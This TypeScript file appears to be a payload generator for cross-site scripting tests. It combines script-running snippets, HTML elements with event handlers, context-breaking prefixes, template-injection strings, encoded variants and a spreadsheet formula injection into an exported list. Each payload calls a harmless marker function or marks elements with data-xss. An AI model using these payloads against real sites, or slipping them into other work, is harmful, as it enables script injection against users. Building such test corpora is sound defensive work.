// Texts that would become part of a page that takes them for anything but text. Each that makes an element carries data-xss, each that runs calls xss().

const run = ['xss()', 'window.xss()', 'top[`xss`]()', '(xss)``', 'setTimeout(xss)', 'eval(`xss()`)', '[].map.constructor`xss()```', 'import(`//xss.invalid`)']
const marked = ['data-xss', 'data-xss=1', 'DATA-XSS', 'data-xss x=\'']

/** Elements of which `$` is the code that runs and `@` the mark. */
const elements = ['<script @>$</script>', '<img @ src=x onerror="$">', '<svg @ onload="$">', '<svg @><script>$</script></svg>', '<iframe @ srcdoc="<script>$</script>"></iframe>',
  '<details @ open ontoggle="$">x</details>', '<a @ href="javascript:$">x</a>', '<form @ action="javascript:$"><input type=submit></form>', '<input @ autofocus onfocus="$">',
  '<math @><mtext></mtext><style><img src=x onerror="$"></style></math>', '<object @ data="javascript:$"></object>', '<video @><source onerror="$"></video>', '<base @ href="//xss.invalid/">',
  '<style @>@import "//xss.invalid/a.css";</style>', '<link @ rel=stylesheet href=//xss.invalid/a.css>', '<meta @ http-equiv=refresh content="0;url=javascript:$">', '<marquee @ onstart="$">x</marquee>',
  '<template @><img src=x onerror="$"></template>', '<noscript @><p title="</noscript><img src=x onerror=$>">']

/** What ends the place that a text stands in. */
const breaks = ['', '">', '\'>', '</title>', '</textarea>', '--><', ']]>', '`}', '\u2028', '</script>']

const plain = ['{{xss()}}', '{{constructor.constructor("xss()")()}}', '${xss()}', '<%= xss() %>', '#{xss()}', 'javascript:xss()', 'data:text/html,<script>xss()</script>', '\\u003cimg data-xss\\u003e',
  '&lt;img data-xss src=x onerror=xss()&gt;', '&#60;img data-xss&#62;', '" onmouseover="xss()" data-xss="', '\' autofocus onfocus=xss() data-xss=\'', '__proto__', 'constructor', '<b data-xss>x</b>', '<s data-xss>',
  '<i data-xss>', '"><u data-xss>', '%3Cimg%20data-xss%3E', '*{background:url(//xss.invalid)}', 'color:red;background:url(//xss.invalid)', '|%{name}|<br/><i data-xss>', '=cmd|\' /C xss\'!A0', '<!--><img data-xss src=x>']

/** One of each kind: what the short form takes must show a page that takes a text for markup. */
const first = ['<b data-xss>x</b>', '<img data-xss src=x onerror="xss()">', '{{xss()}}', '" onmouseover="xss()" data-xss="', '"><u data-xss>', 'javascript:xss()']

/** All of them. */
export const payloads: string[] = [...new Set([...first, ...plain, ...elements.flatMap((e, i) => breaks.map((b, j) => b + e.replaceAll('$', run[(i + j) % run.length]!).replaceAll('@', marked[(i * 3 + j) % marked.length]!)))])]

/** The n-th that is no longer than a field takes. */
export function fitting(n: number, most: number): string {
  const short = payloads.filter((p) => [...p].length <= most)
  return short[n % short.length]!
}
